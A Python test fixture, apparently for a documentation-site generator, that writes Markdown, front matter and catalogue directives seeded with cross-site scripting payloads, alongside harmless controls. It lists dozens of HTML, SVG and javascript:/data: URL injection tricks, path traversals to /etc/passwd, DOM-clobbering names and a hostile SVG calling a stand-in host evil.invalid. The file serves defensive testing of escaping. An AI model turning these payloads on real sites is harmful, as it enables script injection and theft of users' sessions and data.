"""What somebody may write into notes, names and settings so that a page runs or fetches something.

`pwned(N)` and `http://evil.invalid/N` are what it tries, N being the number of the payload and its
place. The same notes with harmless words in the same places show what the pages are like without.
"""

# What would run as a part of a page, or change what the page is.
MARKUP = [
    "<script>pwned(N)</script>",
    "<ScRiPt src=//evil.invalid/N.js></sCrIpT>",
    "<script\x0bsrc='data:text/javascript,pwned(N)'></script >",
    "<img src=x onerror=pwned(N)>",
    "<img src='http://evil.invalid/N.png'>",
    "<image href=http://evil.invalid/N onload=pwned(N)>",
    "<svg onload=pwned(N)>",
    "<svg/onload=pwned(N)//",
    "<svg><animate onbegin=pwned(N) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:pwned(N)></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwned(N)</script>'></iframe></foreignObject></svg>",
    "<svg><script href='data:text/javascript,pwned(N)'/></svg>",
    "<svg><use href='http://evil.invalid/N.svg#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned(N)></style></table></mtext></math>",
    "<iframe src=javascript:parent.pwned(N)></iframe>",
    "<object data='data:text/html,<script>parent.pwned(N)</script>'></object>",
    "<embed src=http://evil.invalid/N>",
    "<base href=http://evil.invalid/N/>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/N'>",
    "<link rel=stylesheet href=http://evil.invalid/N.css>",
    "<style>@import 'http://evil.invalid/N.css';</style>",
    "<input autofocus onfocus=pwned(N)>",
    "<details open ontoggle=pwned(N)><summary>more</summary></details>",
    "<ruby onpointerover=pwned(N)><rt style='background:url(http://evil.invalid/N)'>x</rt></ruby>",
    "<br onclick=pwned(N)/>",
    "<video autoplay><source onerror=pwned(N)></video>",
    "<body onpageshow=pwned(N)>",
    "<form action=http://evil.invalid/N id=body><input name=location><button autofocus>x</button></form>",
    "<a href=javascript:pwned(N)>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=pwned(N)>'>",
    "<template shadowrootmode=open><img src=x onerror=pwned(N)></template>",
    "<!--><img src=x onerror=pwned(N)>-->",
    "<!-- --!><img src=x onerror=pwned(N)> -->",
    "<![CDATA[<img src=x onerror=pwned(N)>]]>",
    "<?xml-stylesheet href='http://evil.invalid/N.xsl'?><img src=x onerror=pwned(N)>",
    "</main></body></html><img src=x onerror=pwned(N)>",
    "</code></pre></title></textarea></style></noscript><img src=x onerror=pwned(N)>",
    "</script><script>pwned(N)</script>",
    "--><script>pwned(N)</script><!--",
    "]]><script>pwned(N)</script>",
    "\"><img src=x onerror=pwned(N)>",
    "'><img src=x onerror=pwned(N)>",
    "\" autofocus tabindex=0 onfocus=pwned(N) onpointerover=\"pwned(N)",
    "' autofocus tabindex=0 onfocus='pwned(N)",
    "\" style=\"background:url(http://evil.invalid/N)",
    "&lt;img src=x onerror=pwned(N)&gt;",
    "&amp;lt;img src=x onerror=pwned(N)&amp;gt;",
    "&#60;script&#62;pwned(N)&#60;/script&#62;",
    "\\u003cscript\\u003epwned(N)\\u003c/script\\u003e",
    "+ADw-script+AD4-pwned(N)+ADw-/script+AD4-",
    "＜script＞pwned(N)＜/script＞",
    "<\u200bscript>pwned(N)</script>",
    "\"});pwned(N);({\"",
    "';pwned(N);'",
    "\\';pwned(N);//",
    "\\\"});pwned(N);//",
    "`${pwned(N)}`",
    "\u2028pwned(N)\u2029",
    "*/pwned(N)/*",
    "\x1b]0;pwned(N)\x07",
    "\u202e<script>pwned(N)</script>\u202c",
    "{{title}} {{{title}}} {{> head}} {{#languages}}{{href}}{{/languages}}",
    "{{! }}{{> script}}{{/words}}",
    "{symbol} {count} {release} {constructor} {__proto__}",
]

# Those that are tried in every place: one for each way out of a text.
SOME = [
    MARKUP[number] for number, payload in enumerate(MARKUP)
    if any(payload.startswith(way) for way in (
        "<script>", "<img src=x", "<svg onload", "<base", "<meta", "</script>", "-->", "\">", "\" auto",
        "' auto", "&lt;", "\"});", "';", "`$", "\u2028", "{{title", "{{!", "{symbol"))
]

# Where a link or an image might lead.
ADDRESSES = [
    "javascript:pwned(N)",
    "JaVaScRiPt:pwned(N)",
    "javascript&colon;pwned(N)",
    "&#106;avascript:pwned(N)",
    "&#x6A;&#x61;vascript:pwned(N)",
    "java&Tab;script:pwned(N)",
    "java&NewLine;script:pwned(N)",
    "&#1;javascript:pwned(N)",
    "&#xA0;javascript:pwned(N)",
    "\u200bjavascript:pwned(N)",
    "javascript://example.org/%0apwned(N)",
    "%6aavascript:pwned(N)",
    "javascript%3Apwned(N)",
    "vbscript:pwned(N)",
    "VBScript&#58;pwned(N)",
    "data:text/html,<script>pwned(N)</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZChOKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned(N)'/>",
    "DATA&colon;text/html,x",
    "view-source:http://evil.invalid/N",
    "feed:javascript:pwned(N)",
    "blob:http://evil.invalid/N",
    "file:///etc/passwd",
    "about:blank",
    "assets/missing.svg\"onerror=\"pwned(N)",
    "assets/../../evil.invalid/N",
    "../../../../../../etc/passwd",
    "\\\\\\\\evil.invalid\\\\N",
    "/\\\\evil.invalid/N",
    "#\"><img/src=x/onerror=pwned(N)>",
    "#__proto__",
    "https://example.org/\"onpointerover=\"pwned(N)",
    "https://example.org/'><script>pwned(N)</script>",
    "https:javascript:pwned(N)",
    "mailto:x@example.org?body=<script>pwned(N)</script>",
    "doc:javascript:pwned(N)",
    "Lamp/\"><img/src=x/onerror=pwned(N)>",
]

# Names that scripts, engines and this site's own pages give a meaning to.
NAMES = [
    "__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "valueOf", "then", "length",
    "body", "head", "forms", "links", "location", "document", "window", "self", "parent", "top", "name",
    "history", "cookie", "defaultView", "documentElement", "currentScript", "querySelector",
    "getElementById", "addEventListener", "docgen", "docgenSearch", "docgenAvailability", "words", "find",
    "found", "existing", "compare", "platform", "from", "to", "swap", "elements", "dataset", "index",
    "main", "side", "picker", "undefined", "null", "NaN", "class", "id", "href", "src", "style", "title",
]

# Ids that the site's own pages and scripts use, as names of members.
IDS = [
    "main-content", "section-topics", "section-overview", "section-parameters", "section-0", "section-1",
    "section-relationships", "section-see-also", "section-mentioned-in", "footnote-1", "list-introduced",
    "pair-platform", "pair-from", "found-0", "choose",
]

# What an address may hand to a page, as text.
HANDED = SOME[::2] + ["javascript:pwned(N)", "__proto__", "constructor", "%", "%E0%A4%A", "a" * 1500]


def in_table(text):
    return text.replace("|", "\\|")


def in_quotes(text):
    return text.replace("\\", "\\\\").replace('"', '\\"')


def in_code(text):
    return text.replace("`", "'")


# Articles: each place with what stands around the payload, and the payloads that are tried there.
PLACES = {
    "heading": ("## Words {}", MARKUP),
    "paragraph": ("Words {} and more.", MARKUP),
    "emphasis": ("Words **{}** and *{}*.", SOME),
    "quote": ("> Note: {}", SOME),
    "list": ("- Words {}", MARKUP),
    "task": ("- [ ] {}", SOME),
    "code span": ("Words `{}` and more.", MARKUP),
    "code block": ("```swift\n{}\n```", MARKUP),
    "code without a language": ("    {}", SOME),
    "name of a code's language": ("```{}\nlet lamp = 1\n```", SOME),
    "table": ("| Words | More |\n| --- | --- |\n| {} | `{}` |", SOME),
    "head of a table": ("| {} | More |\n| :-: | --- |\n| a | b |", SOME),
    "footnote": ("Words.[^{n}]\n\n[^{n}]: {}", SOME),
    "name of a footnote": ("Words.[^{}]\n\n[^{}]: Words.", SOME),
    "text of a link": ("[{}](https://example.org/)", SOME),
    "title of a link": ("[words](https://example.org/ \"{}\")", MARKUP),
    "text of an image": ("![{}](assets/lamp.svg)", SOME),
    "title of an image": ("![words](assets/lamp.svg \"{}\")", SOME),
    "text of a missing image": ("![{}](assets/none.svg)", SOME),
    "text of a link to a symbol": ("[{}](Lamp)", SOME),
    "ruby": ("<ruby>{}<rt>{}</rt></ruby>", SOME),
    "details": ("<details>\n<summary>{}</summary>\n\n{}\n\n</details>", SOME),
    "address of a link": ("[words](<{}>)", ADDRESSES),
    "address of a link without brackets": ("[words]({})", ADDRESSES),
    "address of a reference": ("[words][r{n}]\n\n[r{n}]: <{}>", ADDRESSES),
    "address alone": ("Words <{}>.", ADDRESSES),
    "address of an image": ("![words](<{}>)", ADDRESSES),
    "address in HTML": ("<a href=\"{}\">words</a>", ADDRESSES),
}

ESCAPED = {
    "table": in_table, "head of a table": in_table, "code span": in_code,
    "title of a link": in_quotes, "title of an image": in_quotes,
}

# Directives of a catalogue.
DIRECTIVES = [
    "@Image(source: \"{}\", alt: \"{}\")",
    "@Image(source: lamp, alt: \"{}\") {{ {} }}",
    "@Video(source: \"{}\", poster: \"{}\")",
    "@TabNavigator {{\n  @Tab(\"{}\") {{ {} }}\n}}",
    "@Row(numberOfColumns: \"{}\") {{\n  @Column(size: \"{}\") {{ {} }}\n}}",
    "@Small {{ {} }}",
    "@Links(visualStyle: \"{}\") {{\n  - <doc:{}>\n}}",
    "@Comment {{ {} }}",
    "@Options(\"{}\") {{ {} }}",
    "@Unknown(\"{}\": \"{}\") {{ {} }}",
    "@CallToAction(url: \"{}\", label: \"{}\")",
    "@Snippet(path: \"{}\")",
]


class Notes:
    """Content with payloads, or with harmless words in their places."""

    def __init__(self, harmful):
        self.harmful = harmful
        self.files = {}
        # Every place with its payload, by number.
        self.tried = []
        self.articles()
        self.blocks()
        self.symbols()
        self.names()
        self.catalogue()
        self.files["docgen.yml"] = "title: Lamps\nlanguages: [en, ja]\nplatforms: [iOS]\nversions: {iOS: [12.0, 15.0]}\n"
        self.files["en/index.md"] = f"# {self.word('title of the home page', MARKUP[0])}\n\n" + "\n\n".join(
            f"Words {self.word('home page', payload)}." for payload in SOME)
        self.files["ja/index.md"] = f"# ランプ\n\n{self.word('home page', MARKUP[3])}\n"
        self.files["assets/lamp.svg"] = "<svg xmlns='http://www.w3.org/2000/svg'/>"
        self.image()

    def word(self, place, payload):
        self.tried.append((place, payload))
        number = str(len(self.tried) - 1)
        if self.harmful:
            return payload.replace("(N)", f"({number})").replace("/N", "/" + number)
        return "https://example.org/" + number if payload in ADDRESSES else "word" + number

    def articles(self):
        for place, (around, payloads) in PLACES.items():
            blocks = []
            for payload in payloads:
                word = ESCAPED.get(place, str)(self.word(place, payload))
                blocks.append(around.replace("{n}", str(len(self.tried))).replace("{}", word))
            self.files[f"en/articles/{place}.md"] = f"# In a {place}\n\n" + "\n\n".join(blocks) + "\n"

    def blocks(self):
        """Each in a note of its own, as it may take what follows with it; and as that note's title."""
        for number, payload in enumerate(MARKUP):
            self.files[f"en/articles/block {number}.md"] = (
                f"# Words {self.word('title of an article', payload)}\n\nWords.\n\n"
                f"{self.word('block of HTML', payload)}\n\n## More\n\nMore words.\n")

    def symbols(self):
        """A type for each payload, which has it wherever a symbol has words."""
        for number, payload in enumerate(SOME):
            def word(place, payload=payload):
                return self.word(place, payload)

            def code(place, payload=payload):
                return in_code(self.word(place, payload))

            self.files[f"en/Lamp{number}.md"] = f"""# Lamp{number}

```swift
class Lamp{number} : NSObject
```

```objc
@interface Lamp{number} : NSObject /* {word("comment of a declaration")} */
```

{word("abstract")}

## Availability
iOS 13.0. {word("availability")} 14.0. tvOS {word("platform's version")}.

## Overview
{word("overview")}

## Declared In
{word("header")}

## Framework
{word("framework")}

## Inherits From
{word("superclass")}, NSObject

## Conforms To
- {word("protocol")}

## Topics

### {word("title of a group")}
{word("text of a group")}

- `glow(from:)`
- `{code("link of a group")}`

## glow(from:)

```swift
func glow(from start: Int = "{word("default in a declaration")}") -> {word("type in a declaration")}
```

{word("abstract of a member")}

### Parameters
- `start`: {word("parameter")}
- `{code("name of a parameter")}`: words

### Return Value
{word("return value")}

### Availability
iOS 12.0. Deprecated in iOS 14.0. {word("deprecation")}

### Replacement
{word("replacement")}

### See Also
- {word("see also")}
- [{word("text of see also")}](https://example.org/)

## `{code("name of a member")}`

```swift
var {word("name in a declaration")}: Int
```

Words.

### Availability
iOS 13.0.

## Constants

| Name | Meaning |
| --- | --- |
| `{in_table(code("name in a table"))}` | {in_table(word("meaning in a table"))} |

## {word("unknown section")}
{word("text of an unknown section")}
"""
            self.files[f"ja/Lamp{number}.md"] = (
                f"# Lamp{number}\n\nランプ {word('translated abstract')}\n\n## Overview\n{word('translated text')}\n\n"
                f"[言葉](https://example.org/ \"{in_quotes(word('translated title of a link'))}\")\n\n"
                f"![{word('translated text of an image')}](assets/lamp.svg)\n\n"
                f"## glow(from:)\n\n光る {word('translated member')}\n")

    def names(self):
        """Names of symbols, of files and of folders."""
        for number, payload in enumerate(SOME):
            name = in_code(self.word("name of a symbol", payload))
            self.files[f"en/named{number}.md"] = (
                f"# `{name}`\n\n```swift\nclass {name} : NSObject\n```\n\nWords.\n\n## Availability\niOS 13.0.\n\n"
                f"## `{name}`\n\n```swift\nvar {name}: Int\n```\n\nWords.\n")
            file = self.word("name of a file", payload).replace("/", "∕").replace("\x00", "")
            # One that holds a control character is left out, and said.
            self.files[f"en/articles/{file} {number}.md"] = f"# Named {number}\n\nWords.\n"
            folder = self.word("name of a folder", payload).replace("/", "∕")
            self.files[f"en/articles/{folder} {number}/note.md"] = f"# In a folder {number}\n\nWords.\n"
            image = self.word("name of an image", payload).replace("/", "∕").replace("<", "").replace(">", "")
            self.files[f"assets/{image} {number}.svg"] = "<svg xmlns='http://www.w3.org/2000/svg'/>"
            self.files[f"en/articles/image {number}.md"] = f"# Image {number}\n\n![words](<assets/{image} {number}.svg>)\n"
        for number, payload in enumerate(SOME):
            self.files[f"en/matter{number}.md"] = (
                f"---\nlanguage: en\nkind: article\n\"{in_quotes(self.word('key of front matter', payload))}\": words\n"
                f"title: \"{in_quotes(self.word('front matter', payload))}\"\n---\n# Matter {number}\n\nWords.\n")

    def catalogue(self):
        for number, around in enumerate(DIRECTIVES):
            blocks = []
            for payload in SOME + ADDRESSES[:4]:
                word = in_quotes(self.word("directive " + around.split("(")[0].split(" ")[0], payload))
                blocks.append(around.replace("{}", word).replace("{{", "{").replace("}}", "}"))
            self.files[f"en/Kit.docc/Directives {number}.md"] = f"# Directives {number}\n\n" + "\n\n".join(blocks) + "\n"
        for number, payload in enumerate(SOME):
            quoted = in_quotes(self.word("metadata", payload))
            self.files[f"en/Kit.docc/Kit{number}.md"] = f"""# ``Kit{number}``

@Metadata {{
    @DisplayName("{quoted}")
    @TitleHeading("{quoted}")
    @PageImage(purpose: card, source: "{quoted}", alt: "{quoted}")
    @Available("{quoted}", introduced: "1.0")
    @Available(iOS, introduced: "{quoted}")
    @PageColor("{quoted}")
}}

@DeprecationSummary {{ {self.word("summary of a deprecation", payload)} }}

Words.

## Topics

### {self.word("title of a group of a catalogue", payload)}

- ``Kit{number}/{in_code(self.word("link of a catalogue", payload))}``
- <doc:{self.word("page of a catalogue", payload)}>
"""

    def image(self):
        """A drawing that runs where it is opened by itself, but not as an image of a page."""
        number = self.word("drawing", "drawing")
        self.files["assets/hostile.svg"] = f"""<svg xmlns="http://www.w3.org/2000/svg"
  xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" onload="parent.pwned('{number}')">
<script>parent.pwned("{number}")</script>
<style>@import "http://evil.invalid/{number}.css";</style>
<image href="http://evil.invalid/{number}.png" onerror="parent.pwned('{number}')"/>
<use xlink:href="http://evil.invalid/{number}.svg#x"/>
<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml"
  src="http://evil.invalid/{number}"/></foreignObject>
<animate attributeName="x" dur="1s" onbegin="parent.pwned('{number}')"/>
</svg>""" if self.harmful else "<svg xmlns='http://www.w3.org/2000/svg'/>"
        self.files["en/articles/drawing.md"] = "# Drawing\n\n![words](assets/hostile.svg \"words\")\n"


def clobbering():
    """Notes in which every name is one that means something to scripts, engines or the pages."""
    files = {"docgen.yml": "title: Names\nplatforms: [iOS]\nversions: {iOS: [12.0, 15.0]}\n",
             "en/index.md": "# Names\n\nWords.\n"}
    members = "".join(
        f"## `{name}`\n\n```swift\nvar {name}: Int\n```\n\nThe word {number}.\n\n### Availability\n"
        f"iOS 13.0. Deprecated in iOS 14.0. Use `{(NAMES + IDS)[number - 1]}` instead.\n\n"
        for number, name in enumerate(NAMES + IDS))
    files["en/Owner.md"] = (
        "# Owner\n\n```swift\nclass Owner : NSObject\n```\n\nWords.[^1]\n\n[^1]: Words.\n\n## Availability\niOS 12.0.\n\n"
        "## Overview\nWords.\n\n### A heading\nWords.\n\n## See Also\n- `Owner`\n\n" + members)
    for number, name in enumerate(NAMES):
        files[f"en/{name}.md"] = (
            f"# `{name}`\n\n```swift\nclass {name} : {NAMES[number - 1]}\n```\n\nThe type {number}.\n\n## Availability\n"
            f"iOS 13.0. Deprecated in iOS 14.0. Use `{NAMES[number - 1]}` instead.\n")
        files[f"en/articles/{name}.md"] = f"# An article on `{name}`\n\nAn article.\n\n## {name}\n\nIts part.\n"
    return files
